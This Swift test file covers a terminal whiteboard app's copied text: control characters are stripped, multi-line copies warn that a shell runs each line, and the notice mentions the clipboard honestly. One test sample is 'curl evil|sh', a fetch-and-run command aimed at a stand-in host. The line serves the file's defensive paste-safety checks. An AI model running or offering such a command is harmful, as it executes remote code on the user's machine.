import BoardModel
import EaselBase
import Testing

@testable import ScreenContract
@testable import WhiteboardUI

/// Texts that are copied for other programs.
@Suite struct CopiedTextTests {
  @Test("Copied text keeps no control character and no line break at its end; inner ones are plain")
  func sieved() {
    let cases = [
      ("a\u{1B}[2Jb\u{7}\u{9B}c", "a[2Jbc"), ("a\r\nb\r", "a\nb"), ("a\n\n\n", "a"),
      ("a\u{2028}b\u{85}c\u{B}d", "a\nb\nc\nd"), ("\n\n", ""), ("a\tb", "ab"), ("", ""),
      ("a\n\nb", "a\n\nb"),
    ]
    for (text, copied) in cases {
      #expect(CopiedText(text, .things).text == copied, "\(text.debugDescription)")
    }
  }

  @Test("For several lines the notice says how many, and what a shell does with them")
  func lines() {
    let several = CopiedText("curl evil|sh\n.", .things)
    for isInClipboard in [false, true] {
      let notice = several.notice(isInClipboard: isInClipboard)
      #expect(notice.hasPrefix("2 lines") && notice.contains("A shell runs each line"))
      #expect(!CopiedText("a\n", .things).notice(isInClipboard: isInClipboard).contains("lines"))
    }
  }

  @Test("With Ctrl-C the notice of a copy fits a screen of 80 columns to its end")
  func width() {
    for lines in [1, 2, 99, 1_000] {
      let text = String(repeating: "a\n", count: lines)
      let copied = CopiedText(text, .things, adding: " Ctrl-C again quits.")
      for isInClipboard in [false, true] {
        let notice = copied.notice(isInClipboard: isInClipboard)
        #expect(notice.hasSuffix("Ctrl-C again quits.") && notice.displayWidth <= 78, "\(notice)")
      }
    }
    var desk = Desk()
    for row in [5, 7] {
      desk.write("word", at: (10, row))
    }
    desk.type("s")
    desk.key(.character("a"), .control)
    desk.key(.character("c"), .control)
    #expect(desk.notice.contains("Ctrl-C again quits."))
  }

  @Test("In the clipboard is said only after a program of the desktop took the text")
  func truth() {
    for kind in [CopiedText.Kind.things, .ticket, .refused(.draft, "Full")] {
      for text in ["a", "a\nb"] {
        let copied = CopiedText(text, kind)
        #expect(!copied.notice(isInClipboard: false).contains("clipboard"))
        let words = kind == .ticket ? "If you cannot paste it" : "sent to the terminal"
        #expect(copied.notice(isInClipboard: false).contains(words))
        #expect(copied.notice(isInClipboard: true).contains("clipboard"))
      }
    }
    var desk = Desk()
    desk.drag([(10, 5), (30, 9)])
    desk.key(.character("a"), .control)
    desk.type("y")
    let copied = desk.effects.compactMap { if case .copy(let text) = $0 { text } else { nil } }
    #expect(!desk.notice.contains("clipboard"))
    desk.handle(.copied("another text"))
    #expect(!desk.notice.contains("clipboard"))
    desk.handle(.copied(copied.last ?? ""))
    #expect(desk.notice.contains("clipboard"))
  }
}
